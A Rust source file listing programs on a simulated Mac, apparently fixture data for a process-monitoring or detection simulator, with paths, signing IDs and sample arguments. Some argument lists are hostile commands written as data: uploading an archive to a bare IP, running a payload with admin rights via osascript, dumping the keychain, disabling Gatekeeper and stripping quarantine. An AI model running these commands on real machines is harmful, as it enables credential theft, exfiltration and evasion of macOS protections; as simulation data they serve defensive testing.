//! The programs of the made-up Mac.

/// What starts a program.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Role {
    /// `launchd` starts it as root. It does not exit.
    Daemon,
    /// `launchd` starts it for the user. It does not exit.
    App,
    /// An app or another shell starts it.
    Shell,
    /// A shell starts it.
    Tool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Signature {
    Platform,
    /// The ID and the name of a developer's team.
    Developer(&'static str, &'static str),
    Unsigned,
}

#[derive(Debug)]
pub(super) struct Program {
    pub(super) path: &'static str,
    pub(super) signing_id: &'static str,
    pub(super) signature: Signature,
    pub(super) role: Role,
    /// The arguments after the name, for each of its uses.
    pub(super) uses: &'static [&'static [&'static str]],
}

const fn program(
    path: &'static str,
    signing_id: &'static str,
    signature: Signature,
    role: Role,
    uses: &'static [&'static [&'static str]],
) -> Program {
    Program { path, signing_id, signature, role, uses }
}

use Role::{App, Daemon, Shell, Tool};
use Signature::{Developer, Platform, Unsigned};

const BROWSER: Signature = Developer("EQHXZ8M8AV", "Example Browser, Inc.");
const EDITOR: Signature = Developer("UBF8T346G9", "Example Editor, Inc.");

/// The first program is the root of all processes.
pub(super) const PROGRAMS: &[Program] = &[
    program("/sbin/launchd", "com.apple.xpc.launchd", Platform, Daemon, &[]),
    program("/usr/libexec/opendirectoryd", "com.apple.opendirectoryd", Platform, Daemon, &[]),
    program("/usr/libexec/mdmclient", "com.apple.mdmclient", Platform, Daemon, &[&["daemon"]]),
    program("/usr/sbin/sshd", "com.apple.sshd", Platform, Daemon, &[&["-D"]]),
    program("/usr/libexec/trustd", "com.apple.trustd", Platform, Daemon, &[&["--agent"]]),
    program(
        "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
        "com.apple.finder",
        Platform,
        App,
        &[],
    ),
    program(
        "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
        "com.apple.Terminal",
        Platform,
        App,
        &[],
    ),
    program(
        "/Applications/Example Browser.app/Contents/MacOS/Example Browser",
        "com.example.browser",
        BROWSER,
        App,
        &[&["--restore-session"]],
    ),
    program(
        "/Applications/Example Editor.app/Contents/MacOS/Electron",
        "com.example.editor",
        EDITOR,
        App,
        &[&["--type=renderer", "--no-sandbox"]],
    ),
    program("/bin/zsh", "com.apple.zsh", Platform, Shell, &[&["-l"], &["-c", "make test"]]),
    program("/bin/bash", "com.apple.bash", Platform, Shell, &[&["-c", "curl -fsSL example.com"]]),
    program("/bin/sh", "com.apple.sh", Platform, Shell, &[&["./configure", "--prefix=/usr/local"]]),
    program("/bin/ls", "com.apple.ls", Platform, Tool, &[&["-la"], &["-G", "/tmp"]]),
    program("/bin/cat", "com.apple.cat", Platform, Tool, &[&["README.md"], &["/etc/hosts"]]),
    program("/usr/bin/grep", "com.apple.grep", Platform, Tool, &[&["-rn", "main", "src"]]),
    program(
        "/usr/bin/git",
        "com.apple.git",
        Platform,
        Tool,
        &[
            &["status", "--porcelain"],
            &["fetch", "--prune", "origin"],
            &["rev-parse", "--show-toplevel"],
        ],
    ),
    program(
        "/usr/bin/clang",
        "com.apple.clang",
        Platform,
        Tool,
        &[
            &["-O2", "-Wall", "-c", "main.c", "-o", "main.o"],
            &["-g", "-Iinclude", "-c", "parser.c", "-o", "parser.o"],
        ],
    ),
    program(
        "/usr/bin/curl",
        "com.apple.curl",
        Platform,
        Tool,
        &[
            &["-fsSL", "https://example.com/install.sh", "-o", "/tmp/install.sh"],
            &["-s", "https://api.example.com/v1/status"],
            &["-k", "-d", "@/tmp/archive.zip", "http://203.0.113.7:8080/upload"],
        ],
    ),
    program(
        "/usr/bin/osascript",
        "com.apple.osascript",
        Platform,
        Tool,
        &[
            &["-e", "do shell script \"/private/tmp/payload\" with administrator privileges"],
            &["-e", "get name of every disk of application \"Finder\""],
        ],
    ),
    program(
        "/bin/launchctl",
        "com.apple.xpc.launchctl",
        Platform,
        Tool,
        &[&["load", "-w", "/Library/LaunchDaemons/com.example.helper.plist"], &["list"]],
    ),
    program(
        "/usr/bin/security",
        "com.apple.security",
        Platform,
        Tool,
        &[&["find-generic-password", "-wa", "Example"], &["dump-keychain"]],
    ),
    program("/usr/sbin/spctl", "com.apple.spctl", Platform, Tool, &[&["--master-disable"]]),
    program(
        "/usr/bin/xattr",
        "com.apple.xattr",
        Platform,
        Tool,
        &[&["-d", "com.apple.quarantine", "/tmp/payload"]],
    ),
    program("/usr/bin/base64", "com.apple.base64", Platform, Tool, &[&["-D", "-i", "/tmp/a"]]),
    program(
        "/usr/bin/python3",
        "com.apple.python3",
        Platform,
        Tool,
        &[&["-m", "http.server", "8000"], &["-c", "import socket; print(socket.gethostname())"]],
    ),
    program(
        "/usr/local/bin/node",
        "node",
        Developer("HX7739G8FX", "Example Runtime"),
        Tool,
        &[&["server.js"], &["/usr/local/bin/npm", "install"]],
    ),
    program("/opt/homebrew/bin/rg", "rg-55554944", Unsigned, Tool, &[&["--json", "main"]]),
    program("/Users/anna/go/bin/tool", "", Unsigned, Tool, &[&["serve", "--port", "8080"]]),
    program("/private/tmp/payload", "", Unsigned, Tool, &[&["--install"], &[]]),
    program("/Users/anna/Downloads/installer", "", Unsigned, Tool, &[&["-silent"]]),
];
